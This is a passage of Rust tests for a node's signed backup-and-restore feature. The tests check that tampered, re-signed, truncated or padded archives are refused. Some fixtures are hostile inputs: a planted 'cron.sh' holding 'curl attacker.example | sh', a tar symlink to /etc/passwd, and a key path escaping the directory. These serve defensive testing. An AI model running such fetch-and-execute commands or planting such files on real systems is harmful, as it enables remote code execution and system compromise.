        let mut config = Config::new("Example Agency", "GB".parse().unwrap(), NetworkId::new("kawan-test").unwrap());
        config.paths.key = key_path.into();
        config.write(dir.path()).unwrap();
        let genesis = genesis(&config.agency.network);
        std::fs::write(dir.path().join(&config.paths.genesis), genesis.to_bytes()).unwrap();
        let data = DataDir::open(&dir.path().join("data"), Clock::system()).unwrap();
        data.store.install_genesis(&genesis).unwrap();
        let body = Body::Indicator(Indicator::new(Kind::Domain, "jobs.example", IndicatorRole::JobAd, Tlp::Green));
        data.store.publish(&key(), &config.agency.network, body, None).unwrap();
        data.cases
            .create(crate::local::cases::NewCase {
                reference: "OP-1".into(),
                title: "Ring at compound".into(),
                ..Default::default()
            })
            .unwrap();
        data.audit.append("analyst", "case.create", "1").unwrap();
        change(&data);
        let work = tempfile::tempdir().unwrap();
        let mut archive = Vec::new();
        write(&data, dir.path(), &config, &key(), vec![key().public().to_string()], work.path(), &mut archive).unwrap();
        (dir, archive)
    }

    /// The archive's files, by name, in order.
    fn files(archive: &[u8]) -> Vec<(String, Vec<u8>)> {
        let mut out = Vec::new();
        for entry in tar::Archive::new(archive).entries().unwrap() {
            let mut entry = entry.unwrap();
            let name = entry.path().unwrap().to_string_lossy().into_owned();
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).unwrap();
            out.push((name, bytes));
        }
        out
    }

    fn pack(files: &[(String, Vec<u8>)]) -> Vec<u8> {
        let mut out = tar::Builder::new(Vec::new());
        for (name, bytes) in files {
            append_bytes(&mut out, name, bytes, 0).unwrap();
        }
        out.into_inner().unwrap()
    }

    #[test]
    fn a_backup_restores_what_it_holds() {
        let (dir, archive) = backed_up();
        let target = tempfile::tempdir().unwrap();
        let r = restore(archive.as_slice(), target.path(), Clock::system(), &mine()).unwrap();
        assert_eq!((r.records, r.cases, r.audit_entries, r.key_restored, r.trust_lists), (1, 1, 1, false, 1));
        assert!(target.path().join("kawan.toml").is_file());
        // The network's genesis, from the operator's own copy, is enough.
        let genesis = SignedTrustList::from_bytes(&std::fs::read(dir.path().join("genesis.trust")).unwrap()).unwrap();
        let target = tempfile::tempdir().unwrap();
        let anchor = Anchor::Genesis { genesis: Box::new(genesis), member: MemberId::new("example").unwrap() };
        let r = restore(archive.as_slice(), target.path(), Clock::system(), &anchor).unwrap();
        assert_eq!(r.trust_version, Some(1));
    }

    #[test]
    fn a_backup_is_signed_by_the_node_and_restore_trusts_only_the_anchor() {
        let (_dir, archive) = backed_up();
        // A key the operator did not name.
        let other = Keypair::from_secret_bytes([9; 32]);
        let target = tempfile::tempdir().unwrap();
        let err = restore(archive.as_slice(), target.path(), Clock::system(), &Anchor::Keys(vec![other.public()]))
            .unwrap_err();
        assert!(err.to_string().contains("not by a key you named"), "{err}");
        // An archive re-signed by someone else, with its own key as signer.
        let mut parts = files(&archive);
        let mut m: Manifest = serde_json::from_slice(&parts[0].1).unwrap();
        m.signer = other.public().to_string();
        let json = serde_json::to_vec_pretty(&m).unwrap();
        parts[1].1 = hex::encode(other.sign(MANIFEST_DOMAIN, &json).0).into_bytes();
        parts[0].1 = json;
        let target = tempfile::tempdir().unwrap();
        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("not by a key you named"), "{err}");
        // …and against a genesis it is not the member's current key.
        let genesis = Box::new(genesis(&NetworkId::new("kawan-test").unwrap()));
        let target = tempfile::tempdir().unwrap();
        let anchor = Anchor::Genesis { genesis, member: MemberId::new("example").unwrap() };
        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &anchor).unwrap_err();
        assert!(err.to_string().contains("not the current key of member example"), "{err}");
    }

    /// Every part of a backup is covered: one flipped byte in any file, at
    /// its start, middle or end, is refused, and nothing is left behind.
    #[test]
    fn a_byte_flipped_anywhere_is_refused() {
        let (_dir, archive) = backed_up();
        let parts = files(&archive);
        let names: Vec<&str> = parts.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, ["manifest.json", "manifest.sig", "kawan.toml", "genesis.trust", "local.kv", "records.kv"]);
        for (i, (name, bytes)) in parts.iter().enumerate() {
            for at in [0, bytes.len() / 2, bytes.len() - 1] {
                let mut tampered = parts.clone();
                tampered[i].1[at] ^= 0x01;
                let target = tempfile::tempdir().unwrap();
                let r = restore(pack(&tampered).as_slice(), target.path(), Clock::system(), &mine());
                let err = r.err().unwrap_or_else(|| panic!("{name} byte {at} flipped and restored"));
                assert!(
                    matches!(err, BackupError::Tampered(_) | BackupError::Malformed(_) | BackupError::Format { .. }),
                    "{name} byte {at}: {err}"
                );
                assert_eq!(std::fs::read_dir(target.path()).unwrap().count(), 0, "{name}: files left behind");
            }
        }
        // A removed or an added file.
        let mut fewer = parts.clone();
        fewer.remove(4);
        let target = tempfile::tempdir().unwrap();
        let err = restore(pack(&fewer).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("local.kv was removed"), "{err}");
        let mut twice = parts.clone();
        twice.push(parts[5].clone());
        let target = tempfile::tempdir().unwrap();
        let err = restore(pack(&twice).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("appears twice"), "{err}");
    }

    /// The archive plus an agency key, as `kawan backup --include-key`
    /// writes it.
    fn with_key(archive: &[u8], key_text: &str) -> Vec<u8> {
        let mut parts = files(archive);
        parts.push((ARCHIVED_KEY.into(), key_text.as_bytes().to_vec()));
        pack(&parts)
    }

    fn key_text() -> String {
        format!("{}\n", hex::encode([3u8; 32]))
    }

    #[test]
    fn the_key_is_restored_where_kawan_toml_says_and_never_outside_the_directory() {
        let (_dir, archive) = backed_up_with_key_at("keys/agency.key");
        let target = tempfile::tempdir().unwrap();
        let r = restore(with_key(&archive, &key_text()).as_slice(), target.path(), Clock::system(), &mine()).unwrap();
        assert!(r.key_restored);
        assert_eq!(std::fs::read_to_string(target.path().join("keys/agency.key")).unwrap(), key_text());
        assert!(!target.path().join(node_dir::DEFAULT_KEY).exists());

        // A key that is not the signer's (an attacker's, to take over the node).
        let (_dir, archive) = backed_up();
        let target = tempfile::tempdir().unwrap();
        let other = format!("{}\n", hex::encode([9u8; 32]));
        let err = restore(with_key(&archive, &other).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("not the key that signed it"), "{err}");

        let (_dir, archive) = backed_up_with_key_at("../outside.key");
        let parent = tempfile::tempdir().unwrap();
        let target = parent.path().join("restored");
        let err = restore(with_key(&archive, &key_text()).as_slice(), &target, Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("leaves the node directory"), "{err}");
        assert!(!parent.path().join("outside.key").exists(), "nothing was written outside");

        // Two [paths] naming one file: the genesis would replace the key.
        let (_dir, archive) = backed_up_with_key_at(node_dir::DEFAULT_GENESIS);
        let target = tempfile::tempdir().unwrap();
        let err =
            restore(with_key(&archive, &key_text()).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("overlap"), "{err}");
    }

    #[test]
    fn an_operator_token_must_be_one_of_the_nodes() {
        let (_dir, archive) = backed_up();
        let mut parts = files(&archive);
        parts.push((node_dir::OPERATOR_TOKEN.into(), b"kwn_planted_by_an_attacker\n".to_vec()));
        let target = tempfile::tempdir().unwrap();
        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("not one of the node's operator tokens"), "{err}");
    }

    #[test]
    fn a_target_that_is_a_link_is_refused_and_untouched() {
        let (_dir, archive) = backed_up();
        let parent = tempfile::tempdir().unwrap();
        let real = parent.path().join("real");
        std::fs::create_dir(&real).unwrap();
        let link = parent.path().join("link");
        std::os::unix::fs::symlink(&real, &link).unwrap();
        let err = restore(archive.as_slice(), &link, Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("symbolic link"), "{err}");
        assert!(real.is_dir() && link.is_symlink());
    }

    #[test]
    fn a_database_file_that_is_a_link_is_refused() {
        let (_dir, archive) = backed_up();
        let mut out = tar::Builder::new(Vec::new());
        for (name, bytes) in files(&archive) {
            if name == "local.kv" {
                let mut h = tar::Header::new_gnu();
                h.set_entry_type(tar::EntryType::Symlink);
                h.set_size(0);
                out.append_link(&mut h, "local.kv", "/etc/passwd").unwrap();
                continue;
            }
            append_bytes(&mut out, &name, &bytes, 0).unwrap();
        }
        let target = tempfile::tempdir().unwrap();
        let err = restore(out.into_inner().unwrap().as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("not a regular file"), "{err}");
    }

    #[test]
    fn a_damaged_backup_is_refused_with_a_reason() {
        let (_dir, archive) = backed_up();
        // Cut short inside the records' file.
        let at = archive.windows(12).position(|w| w == b"jobs.example").unwrap();
        let target = tempfile::tempdir().unwrap();
        let err = restore(&archive[..at], target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(matches!(err, BackupError::Malformed(_) | BackupError::Io(_) | BackupError::Tampered(_)), "{err}");
        // Not an archive at all.
        let target = tempfile::tempdir().unwrap();
        assert!(restore(&b"hello"[..], target.path(), Clock::system(), &mine()).is_err());
    }

    /// docs/security.md B7: whoever holds the node key can sign a backup,
    /// but not coordinators' signatures: a stored list that does not chain
    /// from the genesis is refused, whichever anchor restore is given.
    #[test]
    fn trust_lists_that_do_not_chain_from_the_genesis_are_refused() {
        let thief = Keypair::from_secret_bytes([7; 32]);
        let (dir, archive) = backed_up_after(node_dir::DEFAULT_KEY, |data| {
            // Version 2 makes the thief the network's one coordinator,
            // signed by the thief alone.
            let mut list = genesis(&NetworkId::new("kawan-test").unwrap()).list().unwrap();
            list.version = 2;
            list.issued_ms += 1;
            list.members[0].key = thief.public();
            let mut forged = SignedTrustList::new(&list).unwrap();
            forged.sign(&thief);
            let mut batch = crate::store::engine::Batch::default();
            batch.insert("trust", crate::store::keys::trust_version(2), forged.to_bytes());
            data.store.import(batch).unwrap();
        });
        let target = tempfile::tempdir().unwrap();
        let err = restore(archive.as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("do not chain from the genesis"), "{err}");
        assert_eq!(std::fs::read_dir(target.path()).unwrap().count(), 0);
        let genesis = SignedTrustList::from_bytes(&std::fs::read(dir.path().join("genesis.trust")).unwrap()).unwrap();
        let anchor = Anchor::Genesis { genesis: Box::new(genesis), member: MemberId::new("example").unwrap() };
        let err = restore(archive.as_slice(), target.path(), Clock::system(), &anchor).unwrap_err();
        assert!(err.to_string().contains("do not chain from the genesis"), "{err}");
    }

    /// docs/security.md B8: only the files the node signed (plus a key or
    /// an operator token, each checked) are restored: an unknown file, or
    /// a known one the manifest does not list, is refused.
    #[test]
    fn a_file_the_manifest_does_not_name_is_refused() {
        let (_dir, archive) = backed_up();
        let mut parts = files(&archive);
        parts.push(("cron.sh".into(), b"curl attacker.example | sh".to_vec()));
        let target = tempfile::tempdir().unwrap();
        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("unexpected file \"cron.sh\""), "{err}");
        // A genesis added to the backup of a node that had none (not yet
        // in a network): it would make the restored node trust another
        // network's coordinators.
        let dir = tempfile::tempdir().unwrap();
        let config = Config::new("Example Agency", "GB".parse().unwrap(), NetworkId::new("kawan-test").unwrap());
        config.write(dir.path()).unwrap();
        let data = DataDir::open(&dir.path().join("data"), Clock::system()).unwrap();
        let work = tempfile::tempdir().unwrap();
        let mut archive = Vec::new();
        write(&data, dir.path(), &config, &key(), vec![key().public().to_string()], work.path(), &mut archive).unwrap();
        let target = tempfile::tempdir().unwrap();
        restore(archive.as_slice(), target.path(), Clock::system(), &mine()).expect("the untouched backup restores");
        let mut parts = files(&archive);
        parts.push((ARCHIVED_GENESIS.into(), genesis(&NetworkId::new("kawan-other").unwrap()).to_bytes()));
        let target = tempfile::tempdir().unwrap();
        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
        assert!(err.to_string().contains("genesis.trust is not in the signed manifest"), "{err}");
    }

    /// What is derived from records (indices, references, counts) is
    /// rebuilt from the verified records on restore: an index entry the
    /// archive adds is dropped, one it lacks is back, counts are recounted.
    #[test]
    fn derived_keys_are_rebuilt_from_the_verified_records() {
        use crate::store::keys;
        let (_dir, archive) = backed_up_after(node_dir::DEFAULT_KEY, |data| {
            let mut found = Vec::new();
            data.store
                .dump(&mut |space, k, _| {
                    if keys::is_derived(space, k) {
                        found.push((space, k.to_vec()));
                    }
                    Ok(())
                })
                .unwrap();
            let mut batch = crate::store::engine::Batch::default();
            for (space, k) in found {
                batch.remove(space, k);
            }
            let id = kawan_protocol::RecordId([0xAB; 32]);
            batch.insert("index", keys::value(Kind::Domain, "planted.example", &id), Vec::new());
            batch.insert(
                "meta",
                keys::count("domain", &kawan_protocol::Channel::Network),
                99u64.to_be_bytes().to_vec(),
            );
            data.store.import(batch).unwrap();
        });
        let target = tempfile::tempdir().unwrap();
        let r = restore(archive.as_slice(), target.path(), Clock::system(), &mine()).unwrap();
        assert_eq!(r.records, 1);
        let data = DataDir::open(&target.path().join("data"), Clock::system()).unwrap();
        let mut index = Vec::new();
        data.store
            .dump(&mut |space, k, _| {
                if space == "index" {
                    index.push(String::from_utf8_lossy(k).into_owned());
                }
                Ok(())
            })
            .unwrap();
        assert!(index.iter().any(|k| k.contains("jobs.example")), "the record's index entry is back: {index:?}");
        assert!(!index.iter().any(|k| k.contains("planted.example")), "the planted entry is gone: {index:?}");
        let counts = data.store.counts().unwrap();
        assert_eq!(counts.iter().map(|(_, _, n)| n).sum::<u64>(), 1, "{counts:?}");
    }
}
